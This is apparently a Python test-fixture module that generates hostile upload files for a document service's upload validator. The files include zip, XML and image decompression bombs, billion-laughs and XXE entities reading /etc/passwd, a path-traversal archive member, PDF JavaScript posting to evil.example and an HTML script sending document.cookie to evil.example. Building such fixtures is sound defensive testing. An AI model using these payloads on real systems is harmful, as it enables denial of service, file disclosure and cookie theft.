"""Hostile files, made by code when asked (nothing large is kept in the repository): bombs,
entities, polyglots, huge images, thousands of pages, scripts, encryption, missing parts.

`KINDS` maps a kind's name to a function giving (filename, bytes); each file is what a hostile
user, a broken scanner or a careless export could upload. The test (test_hostile_corpus.py)
sends each and expects a 4xx with a message and nothing stored, or a clean store.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests import samples

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _rezip(data: bytes, change: Callable[[str, bytes], bytes | None], *, extra: dict | None = None) -> bytes:
    """A copy of an archive with each member passed through `change` (None drops it)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            content = change(item.filename, source.read(item.filename))
            if content is not None:
                out.writestr(item.filename, content)
        for name, content in (extra or {}).items():
            out.writestr(name, content)
    return buffer.getvalue()


def _docx_document(xml: bytes) -> bytes:
    """python-docx's DOCX with `xml` in place of word/document.xml."""
    return _rezip(samples.docx(["x"]), lambda name, data: xml if name == "word/document.xml" else data)


def _body(inner: bytes, prolog: bytes = b"") -> bytes:
    return prolog + f"<w:document {W}><w:body>".encode() + inner + b"</w:body></w:document>"


def docx_billion_laughs() -> bytes:
    entities = b'<!ENTITY l0 "ha">' + b"".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">'.encode() for i in range(1, 10)
    )
    prolog = b'<?xml version="1.0"?><!DOCTYPE w:document [' + entities + b"]>"
    return _docx_document(_body(b"<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", prolog))


def docx_external_entity() -> bytes:
    prolog = b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return _docx_document(_body(b"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", prolog))


def docx_remote_dtd() -> bytes:
    prolog = b'<?xml version="1.0"?><!DOCTYPE w:document SYSTEM "http://evil.example/x.dtd">'
    return _docx_document(_body("<w:p><w:r><w:t>Nghị quyết</w:t></w:r></w:p>".encode(), prolog))


def docx_attribute_bomb() -> bytes:
    attributes = b" ".join(b'w:a%d="1"' % i for i in range(3_000_000))
    return _docx_document(_body(b"<w:p " + attributes + b"/>"))


def docx_without(member: str) -> Callable[[], bytes]:
    def make() -> bytes:
        return _rezip(samples.docx(["Nghị quyết"]), lambda name, data: None if name == member else data)

    return make


def docx_garbage_document() -> bytes:
    return _docx_document(b"\x89 not xml at all <<<")


def docx_many_members() -> bytes:
    extra = {f"word/media/a{i}.bin": b"" for i in range(6000)}
    return _rezip(samples.docx(["Nghị quyết"]), lambda _name, data: data, extra=extra)


def docx_traversal_member() -> bytes:
    return _rezip(samples.docx(["Nghị quyết"]), lambda _n, d: d, extra={"../../../../tmp/ancuu-evil": b"x"})


def docx_macro() -> bytes:
    macros = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}
    return _rezip(samples.docx(["Nghị quyết"]), lambda _n, d: d, extra=macros)


def docx_external_link() -> bytes:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/image" Target="http://evil.example/track.png" TargetMode="External"/>'
        b"</Relationships>"
    )

    def change(name: str, data: bytes) -> bytes:
        return rels if name == "word/_rels/document.xml.rels" else data

    return _rezip(samples.docx(["Nghị quyết"]), change)


def docx_text_over_budget() -> bytes:
    return samples.docx(["Chữ " * 1_000_000 for _ in range(2)])


def docx_embedded_image_bomb() -> bytes:
    image = {"word/media/image1.png": _png_header_only(100_000, 100_000)}
    return _rezip(samples.docx(["Nghị quyết"]), lambda _n, d: d, extra=image)


def ole_compound_file() -> bytes:
    """A Word 97 / encrypted Office file: an OLE compound document, not a ZIP."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Microsoft Word" * 100


def odt_billion_laughs() -> bytes:
    entities = b'<!ENTITY l0 "ha">' + b"".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">'.encode() for i in range(1, 10)
    )
    data = samples.odt_body("<text:p>MARK</text:p>")
    prolog = b'<?xml version="1.0"?><!DOCTYPE office:document-content [' + entities + b"]>"

    def change(name: str, content: bytes) -> bytes:
        if name != "content.xml":
            return content
        content = content.replace(b'<?xml version="1.0" encoding="UTF-8"?>', prolog)
        return content.replace(b"MARK", b"&l9;")

    return _odt_rezip(data, change)


def _odt_rezip(data: bytes, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        out.writestr("mimetype", source.read("mimetype"), compress_type=zipfile.ZIP_STORED)
        for name in source.namelist():
            if name != "mimetype" and (content := change(name, source.read(name))) is not None:
                out.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def odt_spaces_bomb() -> bytes:
    return samples.odt_body('<text:p>Mở đầu<text:s text:c="300000000"/>kết thúc</text:p>')


def odt_elements_bomb() -> bytes:
    return samples.odt_body("<text:p><text:span/></text:p>" * 2_500_000)


def odt_without_content() -> bytes:
    return _odt_rezip(samples.odt(["Nghị quyết"]), lambda name, data: None if name == "content.xml" else data)


def zip_declaring_itself_odt_badly() -> bytes:
    return samples.archive({"mimetype": "application/vnd.oasis.opendocument.textX", "content.xml": "<x/>"})


# ------------------------------------------------------------------ PDF


def _pdf(objects: list[bytes]) -> bytes:
    return samples.pdf_of_objects(objects, version=b"1.7")


def pdf_with_javascript() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R "
            b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /S /JavaScript /JS (app.alert\\('x'\\); this.submitForm\\('http://evil.example'\\);) >>",
        ]
    )


def pdf_thousands_of_pages() -> bytes:
    count = 4000
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    tree = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", tree]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * count
    return _pdf(objects)


def pdf_huge_page() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /UserUnit 75000 >>",
        ]
    )


def pdf_lying_page_count() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_page_tree_loop() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
        ]
    )


def pdf_image_bomb() -> bytes:
    """One page whose image claims 60,000 × 60,000 pixels in a few KB of Flate data."""
    pixels = zlib.compress(b"\xff" * (60000 // 8) * 200, 9)
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /I 5 0 R >> >> "
            b"/Contents 4 0 R >>",
            b"<< /Length 23 >>\nstream\nq 595 0 0 842 0 0 cm /I Do Q\nendstream",
            b"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 "
            b"/ColorSpace /DeviceGray /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(pixels)
            + pixels
            + b"\nendstream",
        ]
    )


def pdf_encrypted() -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.cell(0, 10, "Nghi quyet")
    pdf.set_encryption(owner_password="chu-so-huu", user_password="mat-khau")
    return bytes(pdf.output())


def pdf_truncated() -> bytes:
    data = samples.pdf(["Nghi quyet"])
    return data[: len(data) // 3]


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a ZIP (the archive appended): a PDF to its reader."""
    return samples.pdf(["Nghi quyet 05-NQ/DU"]) + samples.archive({"evil.txt": "x"})


def pdf_with_attachment() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
        ]
    )


def pdf_deep_nesting() -> bytes:
    nested = b"[" * 100_000 + b"]" * 100_000
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Deep " + nested + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def elf_as_pdf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 2000


# ------------------------------------------------------------------ images


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims `width` × `height` (its pixels never follow)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    crc = struct.pack(">I", zlib.crc32(chunk) & 0xFFFFFFFF)
    idat = zlib.compress(b"\x00" * 100)
    idat_chunk = b"IDAT" + idat
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(ihdr))
        + chunk
        + crc
        + struct.pack(">I", len(idat))
        + idat_chunk
        + struct.pack(">I", zlib.crc32(idat_chunk) & 0xFFFFFFFF)
    )


def png_bomb() -> bytes:
    return _png_header_only(100_000, 100_000)


def png_just_over_the_bound() -> bytes:
    return _png_header_only(12_000, 9_000)  # 108 million pixels


def jpeg_huge_header() -> bytes:
    data = bytearray(samples.photo_jpeg(["x"]))
    at = data.find(b"\xff\xc0")
    if at < 0:
        at = data.find(b"\xff\xc2")
    data[at + 5 : at + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


def tiff_many_pages() -> bytes:
    from PIL import Image

    pages = [Image.new("1", (64, 64), 1) for _ in range(400)]
    buffer = io.BytesIO()
    pages[0].save(buffer, "TIFF", save_all=True, append_images=pages[1:])
    return buffer.getvalue()


def tiff_huge() -> bytes:
    from PIL import Image

    limit, Image.MAX_IMAGE_PIXELS = Image.MAX_IMAGE_PIXELS, None
    try:
        buffer = io.BytesIO()
        Image.new("1", (20000, 20000), 1).save(buffer, "TIFF", compression="group4")
        return buffer.getvalue()
    finally:
        Image.MAX_IMAGE_PIXELS = limit


def tiff_directory_loop() -> bytes:
    """A TIFF whose page directory points back at itself."""
    data = bytearray(tiff_many_pages()[:0] or _one_page_tiff())
    first = struct.unpack("<I", data[4:8])[0]
    entries = struct.unpack("<H", data[first : first + 2])[0]
    at = first + 2 + 12 * entries
    data[at : at + 4] = struct.pack("<I", first)
    return bytes(data)


def _one_page_tiff() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("L", (200, 200), 255).save(buffer, "TIFF")
    return buffer.getvalue()


def png_truncated() -> bytes:
    data = samples.scan_png(["Báo cáo kết quả"])
    return data[: len(data) // 3]


def jpeg_zip_polyglot() -> bytes:
    return samples.photo_jpeg(["Ảnh"]) + samples.archive({"evil.txt": "x"})


def gif_as_png() -> bytes:
    return b"GIF89a" + b"\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 30


# ------------------------------------------------------------------ text


def html_with_script() -> bytes:
    script = "<script>fetch('http://evil.example/?c='+document.cookie)</script>"
    return f"<html><body>{script}<p>Nghị quyết</p></body></html>".encode()


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


def text_with_controls() -> bytes:
    return b"Ngh\x07 quy\x1bt \x00\x01"


def text_utf16() -> bytes:
    return "Nghị quyết về chuyển đổi số".encode("utf-16")


def text_tcvn3() -> bytes:
    return ("NghÞ quyÕt vÒ x©y dùng ®« thÞ v¨n minh, ph¸t triÓn kinh tÕ x· héi " * 5).encode("utf-8")


# (filename, maker, expected): "refused" for a 4xx with nothing stored, "stored" for a clean store.
KINDS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "docx: zip bomb": ("bom.docx", lambda: samples.zip_bomb_docx(300 * 1024 * 1024), "refused"),
    "docx: 25 million paragraphs": (
        "bom.docx",
        lambda: _docx_document(_body(b"<w:p/>" * 25_000_000)),
        "refused",
    ),
    "docx: 3 million attributes": ("bom.docx", docx_attribute_bomb, "refused"),
    "docx: nested 300 deep": (
        "sau.docx",
        lambda: _docx_document(_body(b"<w:p><w:x>" + b"<w:y>" * 300 + b"</w:y>" * 300 + b"</w:x></w:p>")),
        "refused",
    ),
    "docx: billion laughs": ("cuoi.docx", docx_billion_laughs, "refused"),
    "docx: external entity (XXE)": ("xxe.docx", docx_external_entity, "stored"),
    "docx: remote DTD": ("dtd.docx", docx_remote_dtd, "stored"),
    "docx: no _rels/.rels": ("thieu.docx", docx_without("_rels/.rels"), "refused"),
    "docx: no [Content_Types].xml": ("thieu.docx", docx_without("[Content_Types].xml"), "refused"),
    "docx: no word/document.xml": ("thieu.docx", docx_without("word/document.xml"), "refused"),
    "docx: no styles": ("thieu-kieu.docx", docx_without("word/styles.xml"), "stored"),
    "docx: document.xml not XML": ("rac.docx", docx_garbage_document, "refused"),
    "docx: encrypted member": ("mk.docx", lambda: samples.docx_member_patched(encrypted=True), "refused"),
    "docx: deflate64": ("d64.docx", lambda: samples.docx_member_patched(method=9), "refused"),
    "docx: 6,000 members": ("nhieu.docx", docx_many_members, "refused"),
    "docx: member named ../../": ("ten.docx", docx_traversal_member, "stored"),
    "docx: macros": ("macro.docx", docx_macro, "stored"),
    "docx: external image link": ("lien-ket.docx", docx_external_link, "stored"),
    "docx: text over the budget": ("dai.docx", docx_text_over_budget, "refused"),
    "docx: embedded image bomb": ("anh-bom.docx", docx_embedded_image_bomb, "stored"),
    "docx: OLE (Word 97 or encrypted)": ("cu.docx", ole_compound_file, "refused"),
    "docx: truncated": ("cut.docx", lambda: samples.docx(["Nghị quyết"])[:700], "refused"),
    "odt: billion laughs": ("cuoi.odt", odt_billion_laughs, "refused"),
    "odt: 300 million spaces": ("bom.odt", odt_spaces_bomb, "refused"),
    "odt: 2.5 million elements": ("bom.odt", odt_elements_bomb, "refused"),
    "odt: no content.xml": ("thieu.odt", odt_without_content, "refused"),
    "odt: wrong mimetype": ("sai.odt", zip_declaring_itself_odt_badly, "refused"),
    "pdf: JavaScript": ("js.pdf", pdf_with_javascript, "stored"),
    "pdf: 4,000 pages": ("dai.pdf", pdf_thousands_of_pages, "stored"),
    "pdf: huge page": ("to.pdf", pdf_huge_page, "stored"),
    "pdf: lying page count": ("dem.pdf", pdf_lying_page_count, "stored"),
    "pdf: page tree loop": ("vong.pdf", pdf_page_tree_loop, "refused"),
    "pdf: image bomb": ("anh-bom.pdf", pdf_image_bomb, "stored"),
    "pdf: encrypted": ("mk.pdf", pdf_encrypted, "refused"),
    "pdf: truncated": ("cut.pdf", pdf_truncated, "refused"),
    "pdf: also a zip": ("da-dang.pdf", pdf_zip_polyglot, "stored"),
    "pdf: attachment": ("dinh-kem.pdf", pdf_with_attachment, "stored"),
    "pdf: nested 100,000 deep": ("sau.pdf", pdf_deep_nesting, "stored"),
    "pdf: an executable": ("chay.pdf", elf_as_pdf, "refused"),
    "png: decompression bomb": ("bom.png", png_bomb, "refused"),
    "png: over the pixel bound": ("to.png", png_just_over_the_bound, "refused"),
    "png: truncated": ("cut.png", png_truncated, "stored"),
    "png: a GIF": ("gif.png", gif_as_png, "refused"),
    "jpeg: 65000 × 65000 header": ("to.jpg", jpeg_huge_header, "refused"),
    "jpeg: also a zip": ("da-dang.jpg", jpeg_zip_polyglot, "stored"),
    "jpeg: a PNG by its bytes": ("anh.jpg", lambda: samples.scan_png(["x"]), "refused"),
    "tiff: 400 pages": ("dai.tif", tiff_many_pages, "stored"),
    "tiff: 20000 × 20000": ("to.tif", tiff_huge, "refused"),
    "tiff: directory loop": ("vong.tif", tiff_directory_loop, "stored"),
    "txt: HTML with a script": ("trang.txt", html_with_script, "stored"),
    "txt: SVG with a script": ("anh.txt", svg_with_script, "stored"),
    "txt: control characters": ("dieu-khien.txt", text_with_controls, "refused"),
    "txt: UTF-16": ("utf16.txt", text_utf16, "refused"),
    "txt: TCVN3": ("tcvn3.txt", text_tcvn3, "refused"),
    "empty file": ("rong.docx", lambda: b"", "refused"),
    "no extension": ("khong-duoi", lambda: samples.docx(["x"]), "refused"),
    "executable extension": ("chay.exe", lambda: b"MZ" + b"\x00" * 100, "refused"),
}
